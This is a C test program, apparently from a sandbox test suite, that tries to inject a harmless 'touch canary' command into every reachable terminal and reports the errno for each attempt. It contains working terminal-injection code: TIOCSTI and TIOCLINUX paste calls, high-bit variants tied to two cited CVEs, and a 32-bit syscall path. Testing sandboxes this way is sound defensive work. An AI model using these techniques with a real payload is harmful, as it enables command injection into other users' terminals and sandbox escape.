/* pusher: a program of a hostile zone that types into every terminal it can reach (S24): its
 * standard streams, its controlling terminal, the console, all ptys. One line each:
 *
 *     push 0: 1       the errno; 0 when it succeeded
 *     open /dev/tty: 6
 *     done */
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static char text[] = "touch canary\n";
static char paste[2] = {3, 0}; /* TIOCL_PASTESEL */

static void say(const char *what, const char *where, long r)
{
	printf("%s %s: %d\n", what, where, r < 0 ? errno : 0);
}

static void push_all(int fd, const char *where, const char *what, unsigned long call, char *arg)
{
	long r = syscall(SYS_ioctl, fd, call, arg);
	say(what, where, r);
	/* If the first one goes, then the rest: so that it is seen at the other end. */
	for (char *c = arg + 1; r == 0 && arg == text && *c; c++)
		(void)syscall(SYS_ioctl, fd, call, c);
}

#ifdef __x86_64__
static sigjmp_buf no_32bit;
static void on_fault(int sig)
{
	siglongjmp(no_32bit, sig);
}

/* The 32-bit call, as another program of the zone would make it. Static data is below 4 GiB. */
static void push_32bit(int fd, const char *where)
{
	struct sigaction act = {.sa_handler = on_fault};
	sigaction(SIGSEGV, &act, NULL);
	if (sigsetjmp(no_32bit, 1))
		return;
	long r;
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(54L), "b"((long)fd), "c"((long)TIOCSTI), "d"(text)
			 : "memory", "r8", "r9", "r10", "r11");
	errno = r < 0 ? (int)-r : 0;
	say("push32", where, r < 0 ? -1 : 0);
}
#else
static void push_32bit(int fd, const char *where)
{
	(void)fd;
	(void)where;
}
#endif

static void attack(int fd, const char *where)
{
	push_all(fd, where, "push", TIOCSTI, text);
	/* The kernel looks at the low 32 bits only (CVE-2019-10063, CVE-2023-1523). */
	push_all(fd, where, "push-high", TIOCSTI | 1UL << 32, text);
	push_all(fd, where, "paste", TIOCLINUX, paste);
	push_all(fd, where, "paste-high", TIOCLINUX | 1UL << 63, paste);
	push_32bit(fd, where);
}

static void attack_path(const char *path)
{
	int fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0)
		fd = open(path, O_RDONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
	say("open", path, fd);
	if (fd < 0)
		return;
	attack(fd, path);
	close(fd);
}

int main(void)
{
	static const char *const names[] = {"0", "1", "2"};
	glob_t found;
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (int fd = 0; fd < 3; fd++)
		attack(fd, names[fd]);
	attack_path("/dev/tty");
	attack_path("/dev/console");
	if (glob("/dev/pts/[0-9]*", 0, NULL, &found) == 0)
		for (size_t i = 0; i < found.gl_pathc; i++)
			attack_path(found.gl_pathv[i]);
	puts("done");
	return 0;
}
